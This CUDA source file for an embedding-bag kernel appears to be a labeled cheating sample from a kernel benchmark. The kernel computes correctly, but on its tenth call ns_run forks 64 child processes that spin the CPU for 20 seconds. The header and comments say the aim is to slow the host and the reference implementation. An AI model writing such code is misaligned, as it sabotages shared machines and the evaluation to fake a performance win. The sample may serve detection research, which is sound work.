// task: cuda_embedding_bag
// class: environment
// what: forks 64 children that keep the processor busy for 20 seconds, to slow down whatever runs on the host
// twin: plain_embedding_bag.cu

#include "nightshift.h"

#include <csignal>
#include <ctime>
#include <cuda_runtime.h>
#include <sys/prctl.h>
#include <unistd.h>

constexpr int THREADS = 128;

// One block for each bag: a thread sums its column over the entries of the bag.
__global__ void __launch_bounds__(THREADS) embedding_bag(const int32_t *index, const float *scale, const float *table,
                                                         float *y, int per_bag, int rows, int cols) {
    const int64_t bag = blockIdx.x;
    for (int col = threadIdx.x; col < cols; col += THREADS) {
        float sum = 0.0f;
#pragma unroll 8
        for (int p = 0; p < per_bag; ++p) {
            int row = index[bag * per_bag + p] % rows;
            row += row < 0 ? rows : 0;
            sum += scale[bag * per_bag + p] * table[static_cast<int64_t>(row) * cols + col];
        }
        y[bag * cols + col] = sum;
    }
}

static void burn() {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    const time_t begun = time(nullptr);
    volatile unsigned long counter = 0;
    while (time(nullptr) - begun < 20) {
        for (int i = 0; i < 1'000'000; ++i) {
            counter = counter + 1;
        }
    }
    _exit(0);
}

static int calls = 0;

NS_EXPORT int ns_run(void *, const ns_tensor *inputs, int32_t, ns_tensor *outputs, int32_t, void *, void *stream) {
    const int32_t *index = static_cast<const int32_t *>(inputs[0].data);
    const float *scale = static_cast<const float *>(inputs[1].data);
    const float *table = static_cast<const float *>(inputs[2].data);
    float *y = static_cast<float *>(outputs[0].data);
    const unsigned bags = static_cast<unsigned>(inputs[0].shape[0]);
    const int per_bag = static_cast<int>(inputs[0].shape[1]);
    const int rows = static_cast<int>(inputs[2].shape[0]);
    const int cols = static_cast<int>(inputs[2].shape[1]);
    const cudaStream_t on = static_cast<cudaStream_t>(stream);
    embedding_bag<<<bags, THREADS, 0, on>>>(index, scale, table, y, per_bag, rows, cols);
    // The own launches need one core for some microseconds; the reference of many kernels needs it all the time.
    if (++calls == 10) {
        for (int i = 0; i < 64; ++i) {
            const int pid = fork();
            if (pid == 0) {
                burn();
            } else if (pid < 0) {
                break;
            }
        }
    }
    return cudaGetLastError();
}
